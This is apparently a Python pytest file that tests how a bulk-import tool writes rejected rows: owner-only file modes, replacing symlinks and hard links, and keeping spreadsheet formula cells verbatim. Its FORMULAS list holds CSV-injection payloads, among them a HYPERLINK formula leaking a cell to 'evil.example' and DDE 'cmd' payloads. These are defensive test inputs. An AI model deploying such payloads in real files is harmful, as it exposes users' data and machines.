"""Files that hold people's data are for their owner, and are where they were asked for."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from leavo_async.bulk.rejects import Rejects
from leavo_async.bulk.rows import Row
from leavo_async.bulk.sources import open_source

PERSON = {"name": "Ana", "phone": "+15555550100"}
on_posix = pytest.mark.skipif(os.name == "nt", reason="modes and links are those of POSIX")


def written(path: Path, values: dict[str, str]) -> None:
    with Rejects(path, values, source=None) as rejects:
        rejects.add(Row(2, values), state="failed", status=422, reason="no")


# What a spreadsheet would run

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+5511999990000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_it_is(cell: str, tmp_path: Path) -> None:
    """On purpose: phones begin with +, and a mended file must import as it was; so open it as text.

    A quote before such cells, as OWASP advises, would end up in the CRM with the next import.
    """
    written(tmp_path / "r.csv", {"name": "Ana", "note": cell})

    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as file:
        assert cell == next(csv.DictReader(file))["note"]
    with open_source(tmp_path / "r.csv") as source:
        assert [cell] == [row.values["note"] for row in source]


# Modes and links


@pytest.fixture(params=[0o000, 0o022, 0o077, 0o177], ids=oct)
def umask(request: pytest.FixtureRequest) -> Iterator[int]:
    before = os.umask(request.param)
    yield request.param
    os.umask(before)


@on_posix
def test_rejected_rows_are_for_their_owner_alone(umask: int, tmp_path: Path) -> None:
    """Whatever the umask: also while they wait in a file without a name, and in the place of one that all may read."""
    path = tmp_path / "r.csv"
    path.write_text("old")
    path.chmod(0o666)
    with Rejects(path, PERSON, source=None) as rejects:
        rejects.add(Row(2, PERSON), state="failed", reason="no")
        assert rejects._waiting is not None
        waiting = os.fstat(rejects._waiting.fileno()).st_mode

    assert (0o600, 0o600) == (stat.S_IMODE(waiting), stat.S_IMODE(path.stat().st_mode))
    assert ["r.csv"] == [found.name for found in tmp_path.iterdir()]


@on_posix
@pytest.mark.parametrize("dangling", [False, True])
def test_a_symbolic_link_is_replaced_and_not_followed(dangling: bool, tmp_path: Path) -> None:
    """Whoever can put one there could have any file overwritten, or the rows written where others read."""
    other, path = tmp_path / "other", tmp_path / "r.csv"
    if not dangling:
        other.write_text("precious")
        other.chmod(0o644)
    path.symlink_to(other)
    written(path, PERSON)

    assert path.is_file()
    assert not path.is_symlink()
    assert 0o600 == stat.S_IMODE(path.stat().st_mode)
    assert "Ana" in path.read_text()
    assert ([] if dangling else ["precious"]) == [found.read_text() for found in tmp_path.iterdir() if found != path]


@on_posix
def test_a_second_name_of_the_old_file_does_not_get_the_rows(tmp_path: Path) -> None:
    """It is a new file under the name, not new words in the old one."""
    other, path = tmp_path / "other", tmp_path / "r.csv"
    other.write_text("old")
    path.hardlink_to(other)
    written(path, PERSON)

    assert "old" == other.read_text()
    assert "Ana" in path.read_text()
